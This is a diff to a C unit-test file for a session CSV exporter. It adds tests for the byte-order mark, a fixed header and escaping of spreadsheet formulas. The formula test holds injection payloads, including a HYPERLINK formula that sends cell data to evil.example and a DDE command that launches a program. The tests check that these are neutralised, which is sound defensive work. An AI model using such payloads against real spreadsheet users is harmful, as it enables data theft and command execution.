@@ -305,13 +305,15 @@ static void test_csv_round_trip(void **state)
 	fill(&s[0], "01JDX5R7Q8W2M4N6P8R0T2V4X6", SESSION_COMPLETED, 4);
 	fill(&s[1], "01JDX5R7Q8W2M4N6P8R0T2V4X7", SESSION_ABANDONED, 0);
 	fill(&s[2], "01JDX5R7Q8W2M4N6P8R0T2V4X8", SESSION_IN_PROGRESS, 1);
-	/* Contact keys differ between sessions: the union, sorted. */
+	/* Contact keys differ between sessions: every known one has a column. */
 	snprintf(s[2].contacts[0].key, SESSION_SHORT, "phone");
 	session_set_string(&s[2].contacts[0].value, "+49 30, \"home\"");
 	session_set_string(&s[2].name, NULL);
 	csv = export_sessions_csv(s, 3);
 	assert_non_null(csv);
-	assert_null(strstr(csv, "\xef\xbb\xbf"));
+	/* A byte-order mark first, and only there. */
+	assert_memory_equal(csv, "\xef\xbb\xbf", 3);
+	assert_null(strstr(csv + 3, "\xef\xbb\xbf"));
 	JOIN(path, "%s/sessions.csv", dir);
 	f = fopen(path, "wb");
 	fputs(csv, f);
@@ -320,11 +322,15 @@ static void test_csv_round_trip(void **state)
 	rows = python_rows(path);
 	assert_int_equal(json_array_size(rows), 1 + 4 + 1 + 1);
 	assert_string_equal(cell(rows, 0, "session_id"), "session_id");
-	assert_int_equal(json_array_size(json_array_get(rows, 0)), 10 + 2 + 16);
+	assert_int_equal(json_array_size(json_array_get(rows, 0)), 10 + 4 + 16);
 	assert_string_equal(json_string_value(json_array_get(json_array_get(rows, 0), 10)),
 	                    "contact_email");
 	assert_string_equal(json_string_value(json_array_get(json_array_get(rows, 0), 11)),
 	                    "contact_phone");
+	assert_string_equal(json_string_value(json_array_get(json_array_get(rows, 0), 12)),
+	                    "contact_city");
+	assert_string_equal(json_string_value(json_array_get(json_array_get(rows, 0), 13)),
+	                    "contact_linkedin");
 	for (size_t r = 1; r <= 4; r++) {
 		const answer_record *a = &s[0].answers[r - 1];
 		char num[16];
@@ -349,7 +355,8 @@ static void test_csv_round_trip(void **state)
 	assert_string_equal(cell(rows, 5, "question_index"), "");
 	assert_string_equal(cell(rows, 5, "answer"), "");
 	assert_string_equal(cell(rows, 5, "skipped"), "");
-	assert_string_equal(cell(rows, 6, "contact_phone"), "+49 30, \"home\"");
+	/* A leading + would make a spreadsheet compute the cell. */
+	assert_string_equal(cell(rows, 6, "contact_phone"), "'+49 30, \"home\"");
 	assert_string_equal(cell(rows, 6, "contact_email"), "");
 	assert_string_equal(cell(rows, 6, "ended_at"), "");
 	assert_string_equal(cell(rows, 6, "candidate_name"), "");
@@ -358,6 +365,80 @@ static void test_csv_round_trip(void **state)
 	free(csv);
 	for (int i = 0; i < 3; i++)
 		session_clear(&s[i]);
+	rm_tree(dir);
+	free(dir);
+}
+
+/* Sessions with no contacts, or other ones, give the same header. */
+static void test_csv_header_fixed(void **state)
+{
+	session_record s;
+	char *a, *b, *c;
+
+	(void)state;
+	fill(&s, "01JDX5R7Q8W2M4N6P8R0T2V4X6", SESSION_COMPLETED, 1);
+	a = export_sessions_csv(&s, 1);
+	s.contact_count = 0;
+	b = export_sessions_csv(&s, 1);
+	c = export_sessions_csv(NULL, 0);
+	assert_non_null(a);
+	assert_non_null(b);
+	assert_non_null(c);
+	assert_int_equal(strcspn(a, "\n"), strcspn(c, "\n"));
+	assert_memory_equal(a, c, strcspn(c, "\n"));
+	assert_memory_equal(b, c, strcspn(c, "\n"));
+	assert_string_equal(c, "\xef\xbb\xbfsession_id,kiosk_id,event_id,pack_id,pack_version,"
+		"language,status,started_at,ended_at,candidate_name,contact_email,"
+		"contact_phone,contact_city,contact_linkedin,question_index,question_id,"
+		"type,question_text,answer,shown_at,first_input_ms,submitted_ms,"
+		"total_ms,active_ms,keystrokes,deletions,characters,words,timed_out,"
+		"skipped\r\n");
+	free(a);
+	free(b);
+	free(c);
+	session_clear(&s);
+}
+
+/* Cells a spreadsheet would run as formulas (OWASP's list) start with an
+ * apostrophe and are quoted; Python reads the rest back exactly. */
+static void test_csv_formulas(void **state)
+{
+	static const char *const evil[] = {
+		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3",
+		"@SUM(1,2)", "\tTabbed", "\rCarriage", "=cmd|' /C calc'!A0",
+	};
+	const int n = (int)(sizeof evil / sizeof evil[0]);
+	session_record s;
+	char *dir = temp_dir(), path[4096], want[256], *csv;
+	json_t *rows;
+	FILE *f;
+
+	(void)state;
+	fill(&s, "01JDX5R7Q8W2M4N6P8R0T2V4X6", SESSION_COMPLETED, n);
+	for (int i = 0; i < n; i++)
+		session_set_string(&s.answers[i].answer, evil[i]);
+	session_set_string(&s.name, "=1+2");
+	session_set_string(&s.contacts[0].value, "@example");
+	csv = export_sessions_csv(&s, 1);
+	assert_non_null(csv);
+	assert_non_null(strstr(csv, ",\"'=1+2\","));
+	JOIN(path, "%s/sessions.csv", dir);
+	f = fopen(path, "wb");
+	fputs(csv, f);
+	fclose(f);
+	rows = python_rows(path);
+	assert_int_equal(json_array_size(rows), 1 + (size_t)n);
+	for (int i = 0; i < n; i++) {
+		JOIN(want, "'%s", evil[i]);
+		assert_string_equal(cell(rows, 1 + (size_t)i, "answer"), want);
+		assert_string_equal(cell(rows, 1 + (size_t)i, "candidate_name"), "'=1+2");
+		assert_string_equal(cell(rows, 1 + (size_t)i, "contact_email"), "'@example");
+	}
+	/* Only the first character counts. */
+	assert_string_equal(cell(rows, 1, "session_id"), s.id);
+	json_decref(rows);
+	free(csv);
+	session_clear(&s);
 	rm_tree(dir);
 	free(dir);
 }
@@ -649,6 +730,8 @@ int main(void)
 		cmocka_unit_test(test_session_json),
 		cmocka_unit_test(test_time_and_status),
 		cmocka_unit_test(test_csv_round_trip),
+		cmocka_unit_test(test_csv_header_fixed),
+		cmocka_unit_test(test_csv_formulas),
 		cmocka_unit_test(test_bundle),
 		cmocka_unit_test(test_bundle_mixed_events),
 		cmocka_unit_test(test_collision_and_name),
